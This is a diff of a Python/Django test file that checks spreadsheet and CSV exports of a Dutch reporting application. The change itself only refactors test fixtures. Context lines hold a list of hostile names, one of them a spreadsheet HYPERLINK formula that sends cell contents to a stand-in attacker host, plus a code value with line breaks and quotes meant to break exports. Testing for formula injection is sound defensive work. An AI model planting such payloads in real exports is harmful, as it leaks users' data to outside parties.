@@ -18,9 +18,8 @@ from openpyxl import load_workbook
 
 from rapportering.exports import is_formula_like, to_csv, to_xlsx
 from rapportering.models import Rapport
-from trajecten import models as m
 
-from .factories import EntiteitFactory, PersoneelslidFactory, TrajectFactory
+from .factories import EntiteitFactory, GesprekFactory, TrajectFactory
 
 EVIL_NAMES = [
     '=HYPERLINK("https://aanvaller.example/?x="&A1;"Klik")',
@@ -84,8 +83,7 @@ def hostile_entities(db):
         ent = EntiteitFactory(code=f"EVIL-{i}", naam=name)
         ents.append(ent)
         for j in range(6):
-            t = TrajectFactory(personeelslid=PersoneelslidFactory(entiteit=ent), d0=date(2025, 2, 1 + j))
-            m.Gesprek.objects.create(traject=t, datum=date(2025, 3, 1), vorm="telefoon", gevoerd_door="coach")
+            GesprekFactory(traject=TrajectFactory(personeelslid__entiteit=ent, d0=date(2025, 2, 1 + j)))
     return ents
 
 
@@ -123,7 +121,7 @@ def test_a_code_with_a_newline_breaks_no_export_or_download(client, ago, setting
     with connection.cursor() as cur:
         cur.execute("ALTER TABLE entiteiten_entiteit DROP CONSTRAINT entiteit_code_tekens")
     ent = EntiteitFactory(code='AB\r\nC"/;x', naam="Agentschap Nieuwe Lijn")
-    TrajectFactory(personeelslid=PersoneelslidFactory(entiteit=ent), d0=date(2025, 2, 1))
+    TrajectFactory(personeelslid__entiteit=ent, d0=date(2025, 2, 1))
     client.force_login(ago)
     for fmt in ("csv", "xlsx", "pdf"):
         response = client.get(reverse("export", args=[fmt]), {"jaar": 2025, "entiteit": ent.pk})
